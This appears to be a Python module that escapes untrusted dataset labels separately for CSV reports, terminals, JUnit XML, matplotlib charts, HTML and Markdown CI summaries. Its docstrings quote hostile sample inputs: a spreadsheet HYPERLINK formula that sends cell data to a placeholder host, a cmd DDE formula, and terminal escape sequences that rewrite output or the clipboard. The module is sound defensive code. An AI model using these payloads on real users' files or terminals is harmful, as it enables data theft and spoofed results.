"""Untrusted text made safe for each place the tool writes it: one function per sink.

Group labels, identities, attribute names and file names come from the
user's datasets (file names, CSV and JSON manifests, import sources) and
may be hostile.  Each output format gives some characters a meaning of its
own, so each sink gets its own rendering, applied where the text is
written and nowhere else (the results, caches and dataset files keep every
value as it was):

* :func:`csv_cell`, :func:`csv_frame`: a cell of a CSV report that a
  spreadsheet would run as a formula;
* :func:`terminal_text`: control characters that a terminal would obey
  (retitle the window, write the clipboard, rewrite a line already shown);
* :func:`xml_text`: characters XML 1.0 forbids even when escaped (JUnit);
* :func:`chart_label`: matplotlib's mathtext and legend conventions;
* :func:`html_text`: invisible and reordering characters in the report
  (markup itself is escaped by the report's Jinja environment,
  ``autoescape=True``, and its Content-Security-Policy runs nothing);
* :func:`markdown_text`: a cell of the gate's Markdown verdict (a CI job
  summary, a merge-request comment), whose pipes, backticks, brackets and
  markup Markdown would read as syntax.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

__all__ = ["CSV_FORMULA_PREFIXES", "csv_cell", "csv_frame", "csv_value", "terminal_text", "xml_text",
           "chart_label", "html_text", "markdown_text"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP's list, with NUL and line
#: feed from ASVS 1.2.10), and the quote itself, so that the escape can be undone without ambiguity.
CSV_FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "'")

#: Characters a terminal acts on or hides rather than shows: C0 controls (tab, line feed and carriage
#: return are treated per sink below), DEL, C1 controls (U+009B is a one-character CSI on some
#: terminals), the bidirectional marks, overrides and isolates that reorder what is displayed, the
#: Unicode line and paragraph separators, and lone surrogates (from a file name that is not UTF-8),
#: which cannot even be written to a UTF-8 stream.
_C0 = "\x00-\x08\x0b\x0c\x0e-\x1f"
_HIDDEN = "\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\ud800-\udfff"
_TERMINAL_UNSAFE = re.compile(f"[\t\n\r{_C0}{_HIDDEN}]")
_TERMINAL_UNSAFE_MULTILINE = re.compile(f"[\t\r{_C0}{_HIDDEN}]")
#: XML 1.0 allows tab, line feed and carriage return among the C0 controls and nothing else; U+FFFE
#: and U+FFFF are not characters.  The carriage return and the characters a terminal obeys (C1, bidi)
#: go too: CI systems print JUnit messages into their logs.
_XML_UNSAFE = re.compile(f"[\r{_C0}{_HIDDEN}\ufffe\uffff]")
#: HTML treats tab, line feed and carriage return as white space.
_HTML_UNSAFE = re.compile(f"[{_C0}{_HIDDEN}]")
#: ASCII punctuation that CommonMark or GitHub / GitLab Markdown read as syntax anywhere in a line: escapes
#: and code spans, emphasis and strikethrough, links, images and footnotes, raw HTML, entities, table cells,
#: math, headings and references.  CommonMark lets any ASCII punctuation be escaped with a backslash.
_MARKDOWN_SYNTAX = re.compile(r"([\\`*_{}\[\]()<>#!|~&$^])")
#: Where a renderer would start a reference of its own in plain text: a mention (``@user``), an issue or
#: merge request (``#12``, ``!3``), a bare web address (``https://``, ``www.``).  A zero-width space there
#: keeps the text as it looks and stops the reference (and the notification or cross-link it would make).
_MARKDOWN_REFERENCE = re.compile(r"(?<=[@#!])|(?<=:)(?=//)|(?<=\bwww)(?=\.)", re.IGNORECASE)


def _visible(match: re.Match) -> str:
    """``\\x1b``, ``\\u202e``: the character as Python writes it in a string literal, shown, not obeyed."""
    return ascii(match.group())[1:-1]


def csv_cell(value: Any) -> Any:
    """A CSV report's cell that a spreadsheet shows as text instead of running it as a formula.

    A label such as ``=HYPERLINK("http://x.invalid/?"&A1,"open")`` or
    ``+cmd|' /C calc'!A0`` is a formula to Excel, LibreOffice and Google
    Sheets when a cell starts with it.  Per OWASP, such a text cell gets a
    leading single quote, which spreadsheets take as "this is text" and do
    not display.  A text that already starts with a quote gets one more,
    so that :func:`csv_value` undoes the escape exactly and a spreadsheet
    still shows the original.  Only text is escaped: a number (``-0.5``)
    stays a number.
    """
    if isinstance(value, str) and value.startswith(CSV_FORMULA_PREFIXES):
        return "'" + value
    return value


def csv_value(cell: str) -> str:
    """The value :func:`csv_cell` escaped, as it was (for programs that read the CSV reports)."""
    return cell[1:] if cell.startswith("'") else cell


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and column name passed through :func:`csv_cell`.

    For tables written as CSV reports; numeric columns are left as they are,
    so their numbers are written as numbers.
    """
    out = frame.copy()
    for column in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[column]) or pd.api.types.is_bool_dtype(out[column])):
            out[column] = out[column].map(csv_cell)
    out.columns = [csv_cell(str(c)) for c in out.columns]
    return out


def terminal_text(text: Any, *, multiline: bool = False) -> str:
    """Untrusted text as a terminal should show it: control characters made visible, never obeyed.

    A label holding ``\\x1b]0;...\\x07`` retitles the window, OSC 52 writes
    the clipboard, a carriage return or CSI sequence rewrites what was
    printed before it (a FAIL row made to read "pass"), and bidirectional
    overrides reorder the characters shown.  Each such character is shown
    as its escape (``\\x1b``, ``\\r``, ``\\u202e``).  ``multiline`` keeps
    line feeds (for text the tool lays out in lines itself); tabs are
    always shown as ``\\t``, so that tables stay aligned.
    """
    pattern = _TERMINAL_UNSAFE_MULTILINE if multiline else _TERMINAL_UNSAFE
    return pattern.sub(_visible, str(text))


def xml_text(text: Any) -> str:
    """Text for an XML attribute or element (JUnit): every character XML 1.0 allows, shown escaped otherwise.

    Escaping with ``&#27;`` does not help: XML 1.0 forbids most C0 control
    characters even as references, so a file holding one is not
    well-formed and CI systems reject the whole report.  Each forbidden
    character (and each one a terminal would obey, since CI systems print
    the messages in their logs) is written as its visible escape
    (``\\x1b``); ``<``, ``&`` and quotes are left to the XML serializer.
    """
    return _XML_UNSAFE.sub(_visible, str(text))


def chart_label(text: Any) -> str:
    """Text for a matplotlib label (tick, title, legend entry): drawn as written.

    matplotlib reads text between two ``$`` as mathtext: a group named
    ``$\\frac{a$`` fails to parse and the report cannot be drawn, and
    ``$x^2$`` would be drawn as a formula.  Every ``$`` is escaped (``\\$``
    is drawn as a dollar sign).  A legend leaves out every entry whose label
    starts with ``_`` (matplotlib's "no legend" convention), so such a label
    gets a leading zero-width space.  Control characters are shown as their
    escapes, as on a terminal: a line feed would break the layout and the
    font has no glyphs for the rest.
    """
    label = terminal_text(text).replace("$", "\\$")
    return "\u200b" + label if label.startswith("_") else label


def html_text(text: Any) -> str:
    """Text for the HTML and PDF report: control characters shown as their escapes, as on a terminal.

    ``<``, ``&`` and quotes are Jinja's to escape (autoescape), not this
    function's.  What it adds: a control character is invisible in a page
    (a reader would see ``B]0;x`` for ``B\\x1b]0;x\\x07``, and two labels that
    differ only there would look the same), WeasyPrint has no glyph for it,
    and a bidirectional override would reorder the text after it in the
    report (a group's name, its figures).  Tabs, line feeds and carriage
    returns are white space in HTML, and kept.
    """
    return _HTML_UNSAFE.sub(_visible, str(text))


def markdown_text(text: Any) -> str:
    """Text for a cell of a Markdown table (the gate's CI summary): shown as written, never read as syntax.

    The verdict is pasted where Markdown is rendered (a GitHub job summary,
    a merge-request comment), and a group label is the dataset's: a ``|``
    would split a cell and shift every column after it (a FAIL read under
    "pass"), a line feed would end the row, ``<img src=...>`` is HTML that
    a renderer may keep, ``[text](url)`` a link, a backtick a code span that
    swallows the cells after it, ``#`` a heading, ``$...$`` math.  Control
    characters are shown as their escapes, as on a terminal (line feeds
    included); then every character of ``\\`*_{}[]()<>#!|~&$^`` gets a
    backslash, the backslash itself too, so that a label's own ``\\|``
    cannot undo the escape of its pipe.  GitHub and GitLab also act on
    plain text: ``@all`` notifies people, ``#12`` or ``!3`` cross-links an
    issue or merge request (and notes it there), a bare address becomes a
    link.  A zero-width space after ``@``, ``#``, ``!``, a ``:`` before
    ``//`` and a ``www`` before ``.`` stops each of them; the text looks the
    same.
    """
    return _MARKDOWN_REFERENCE.sub("\u200b", _MARKDOWN_SYNTAX.sub(r"\\\1", terminal_text(text)))
